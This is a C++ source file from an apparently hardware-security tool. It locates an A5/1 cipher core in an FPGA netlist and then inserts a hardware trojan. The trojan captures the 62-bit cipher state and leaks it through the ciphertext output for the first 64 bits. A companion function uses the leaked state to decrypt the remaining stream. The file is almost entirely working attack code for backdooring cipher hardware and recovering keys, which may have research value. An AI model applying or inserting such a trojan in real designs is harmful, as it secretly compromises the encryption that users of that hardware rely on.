#include "gatehound/a51.hpp"

#include <algorithm>

#include "gatehound/reference_ciphers.hpp"
#include "gatehound/util.hpp"

namespace gatehound {

namespace {

// LUT whose input net set equals `nets` (any pin order) and whose table is
// symmetric-equal to `want` (all our targets are symmetric functions).
std::optional<GateId> find_symmetric_gate(const Netlist& n,
                                          const std::vector<NetId>& nets,
                                          const TruthTable& want) {
  std::vector<NetId> sorted = nets;
  std::sort(sorted.begin(), sorted.end());
  for (const Gate& g : n.gates) {
    if (g.kind != GateKind::Lut) continue;
    if (g.inputs.size() != sorted.size()) continue;
    std::vector<NetId> ins = g.inputs;
    std::sort(ins.begin(), ins.end());
    if (ins != sorted) continue;
    if (g.config == want) return g.id;
  }
  return std::nullopt;
}

}  // namespace

A51Descriptor detect_a51(const Netlist& n,
                         const std::optional<std::string>& ready_hint,
                         const LfsrDetectOptions& opts) {
  const A51Profile& profile = a51_toolkit_profile();
  std::vector<LfsrDescriptor> lfsrs = detect_lfsrs(n, opts);

  A51Descriptor desc;
  for (int r = 0; r < 3; ++r) {
    int wanted = profile.lengths[r];
    std::vector<const LfsrDescriptor*> hits;
    for (const LfsrDescriptor& d : lfsrs)
      if (d.length() == wanted) hits.push_back(&d);
    if (hits.size() != 1)
      throw NoCandidate("no candidate: expected exactly one " +
                        std::to_string(wanted) + "-bit LFSR, found " +
                        std::to_string(hits.size()));
    desc.lfsrs[r] = *hits[0];
  }

  std::array<NetId, 3> out_taps{};
  for (int r = 0; r < 3; ++r) {
    std::vector<NetId> nets = desc.lfsrs[r].register_nets(n);
    desc.clock_tap_nets[r] = nets[profile.clock_taps[r]];
    out_taps[r] = nets.back();
  }

  auto maj = find_symmetric_gate(
      n, {desc.clock_tap_nets[0], desc.clock_tap_nets[1],
          desc.clock_tap_nets[2]},
      table_majority3());
  if (!maj)
    throw NoCandidate("no candidate: majority clocking logic not found");
  desc.majority_gates = {*maj};

  auto ks = find_symmetric_gate(n, {out_taps[0], out_taps[1], out_taps[2]},
                                table_parity(3));
  if (!ks)
    throw NoCandidate("no candidate: keystream parity over the output taps "
                      "not found");
  desc.keystream_xor = *ks;

  // The cipher XOR reads the keystream net and a top-level data port.
  NetId ks_net = n.find_gate(*ks)->output;
  std::optional<GateId> cipher;
  for (GateId reader : n.conn(ks_net).readers) {
    const Gate* g = n.find_gate(reader);
    if (!g || g->kind != GateKind::Lut || g->arity != 2) continue;
    if (g->config != table_parity(2)) continue;
    NetId other = g->inputs[0] == ks_net ? g->inputs[1] : g->inputs[0];
    if (!n.conn(other).driven_by_input_port) continue;
    if (cipher)
      throw NoCandidate("no candidate: several cipher XOR gates");
    cipher = g->id;
  }
  if (!cipher)
    throw NoCandidate("no candidate: cipher XOR against a data port not "
                      "found");
  desc.cipher_xor = *cipher;

  // ready: the CE net gating the register fed by the cipher XOR.
  NetId ct_net = n.find_gate(*cipher)->output;
  std::vector<std::pair<GateId, NetId>> gated;
  for (GateId reader : n.conn(ct_net).readers) {
    const Gate* g = n.find_gate(reader);
    if (!g || g->kind != GateKind::Ff) continue;
    if (g->inputs[0] != ct_net || g->ce == kNoNet) continue;
    gated.emplace_back(g->id, g->ce);
  }
  if (ready_hint) {
    auto id = n.find_net(*ready_hint);
    if (!id) throw Error("ready hint net '" + *ready_hint + "' not found");
    desc.ready = *id;
    // keep the output register consistent with the hint when possible
    for (const auto& [ff, ce] : gated)
      if (ce == *id) desc.output_ff = ff;
    if (desc.output_ff == kNoGate && gated.size() == 1)
      desc.output_ff = gated.front().first;
  } else {
    if (gated.empty())
      throw NoCandidate("ambiguous ready signal: no CE-gated register on the "
                        "cipher output, pass --ready");
    if (gated.size() > 1)
      throw NoCandidate("ambiguous ready signal: several gated registers, "
                        "pass --ready");
    desc.output_ff = gated.front().first;
    desc.ready = gated.front().second;
  }
  if (desc.output_ff == kNoGate)
    throw NoCandidate("no candidate: no output register consistent with the "
                      "ready signal");
  return desc;
}

Netlist inject_a51_trojan(const Netlist& n, const A51Descriptor& desc) {
  Netlist out = n;
  for (const LfsrDescriptor& lfsr : desc.lfsrs) {
    for (GateId id : lfsr.registers) {
      const Gate* g = out.find_gate(id);
      if (!g || g->kind != GateKind::Ff)
        throw Error("descriptor mismatch: register gate " +
                    std::to_string(id) + " is not an FF here");
    }
  }
  {
    const Gate* out_ff = out.find_gate(desc.output_ff);
    if (!out_ff || out_ff->kind != GateKind::Ff)
      throw Error("descriptor mismatch: output register missing");
  }
  if (desc.ready >= out.net_count())
    throw Error("descriptor mismatch: ready net missing");

  // State bits in leak order: L1, L2, L3, then two zero pads.
  std::vector<NetId> state_bits;
  for (const LfsrDescriptor& lfsr : desc.lfsrs)
    for (NetId net : lfsr.register_nets(out)) state_bits.push_back(net);
  if (state_bits.size() != kA51StateBits)
    throw Error("descriptor mismatch: state is not 62 bits wide");

  NetId gnd = out.fresh_net("tj_gnd");
  out.add_gnd(gnd);

  // ready delayed by one cycle; the rising edge triggers the capture.
  NetId ready_d = out.fresh_net("tj_ready_d");
  out.add_ff(desc.ready, ready_d);
  NetId trigger = out.fresh_net("tj_trigger");
  {
    TruthTable t(2, 0);  // ready & !ready_d
    t.put(0b01, true);
    out.add_lut(t, {desc.ready, ready_d}, trigger);
  }

  // Shadow shift register: load on trigger, then shift towards bit 0.
  std::vector<NetId> shadow(kA51LeakBits);
  for (int i = 0; i < kA51LeakBits; ++i)
    shadow[i] = out.fresh_net("tj_shadow" + std::to_string(i) + "_");
  for (int i = 0; i < kA51LeakBits; ++i) {
    NetId next = i + 1 < kA51LeakBits ? shadow[i + 1] : gnd;
    NetId captured = i < kA51StateBits ? state_bits[i] : gnd;
    NetId d;
    if (captured == gnd && next == gnd) {
      d = gnd;
    } else {
      d = out.fresh_net("tj_shadow_d" + std::to_string(i) + "_");
      out.add_lut(table_mux2(), {next, captured, trigger}, d);
    }
    out.add_ff(d, shadow[i], desc.ready);
  }

  // 7-bit output counter, enabled one cycle after ready, saturating at 64.
  std::vector<NetId> cnt(7);
  for (int b = 0; b < 7; ++b)
    cnt[b] = out.fresh_net("tj_cnt" + std::to_string(b) + "_");
  {
    NetId and03 = out.fresh_net("tj_cnt_and03");
    out.add_lut(table_and(4), {cnt[0], cnt[1], cnt[2], cnt[3]}, and03);
    std::vector<NetId> carry(7, kNoNet);
    // carry[i] = !cnt6 & cnt0 & .. & cnt{i-1}
    TruthTable not1 = table_not();
    carry[0] = out.fresh_net("tj_cnt_c0");
    out.add_lut(not1, {cnt[6]}, carry[0]);
    carry[1] = out.fresh_net("tj_cnt_c1");
    out.add_lut(table_and(2, 0b10), {cnt[0], cnt[6]}, carry[1]);
    carry[2] = out.fresh_net("tj_cnt_c2");
    out.add_lut(table_and(3, 0b100), {cnt[0], cnt[1], cnt[6]}, carry[2]);
    carry[3] = out.fresh_net("tj_cnt_c3");
    out.add_lut(table_and(4, 0b1000), {cnt[0], cnt[1], cnt[2], cnt[6]},
                carry[3]);
    carry[4] = out.fresh_net("tj_cnt_c4");
    out.add_lut(table_and(2, 0b10), {and03, cnt[6]}, carry[4]);
    carry[5] = out.fresh_net("tj_cnt_c5");
    out.add_lut(table_and(3, 0b100), {and03, cnt[4], cnt[6]}, carry[5]);
    carry[6] = out.fresh_net("tj_cnt_c6");
    out.add_lut(table_and(4, 0b1000), {and03, cnt[4], cnt[5], cnt[6]},
                carry[6]);
    for (int b = 0; b < 7; ++b) {
      NetId next = out.fresh_net("tj_cnt_n" + std::to_string(b) + "_");
      out.add_lut(table_parity(2), {cnt[b], carry[b]}, next);
      out.add_ff(next, cnt[b], ready_d);
    }
  }

  // Mux after the cipher XOR: leak while cnt < 64, cipher output after.
  NetId cipher_net = out.find_gate(desc.output_ff)->inputs[0];
  NetId muxed = out.fresh_net("tj_out_mux");
  out.add_lut(table_mux2(), {shadow[0], cipher_net, cnt[6]}, muxed);
  out.find_gate(desc.output_ff)->inputs[0] = muxed;

  out.rebuild();
  return out;
}

std::vector<std::uint8_t> mitm_decrypt(
    const std::array<std::uint8_t, kA51LeakBits>& leak,
    const std::vector<std::uint8_t>& stream, bool* pad_warning) {
  const A51Profile& profile = a51_toolkit_profile();
  if (pad_warning) *pad_warning = false;
  for (int i = kA51StateBits; i < kA51LeakBits; ++i) {
    if (leak[i]) {
      if (pad_warning) *pad_warning = true;
      break;
    }
  }

  std::array<std::uint32_t, 3> regs{};
  int at = 0;
  for (int r = 0; r < 3; ++r) {
    for (int i = 0; i < profile.lengths[r]; ++i, ++at)
      if (leak[at]) regs[r] |= 1u << i;
  }

  A51Core core(profile);
  core.set_registers(regs);
  // Consume the 64 keystream bits the leak window suppressed.
  for (int i = 0; i < kA51LeakBits; ++i) core.clock();

  std::vector<std::uint8_t> plaintext;
  if (stream.size() <= kA51LeakBits) return plaintext;
  plaintext.reserve(stream.size() - kA51LeakBits);
  for (std::size_t i = kA51LeakBits; i < stream.size(); ++i) {
    int ks = core.next_bit();
    plaintext.push_back(static_cast<std::uint8_t>((stream[i] ^ ks) & 1));
  }
  return plaintext;
}

}  // namespace gatehound
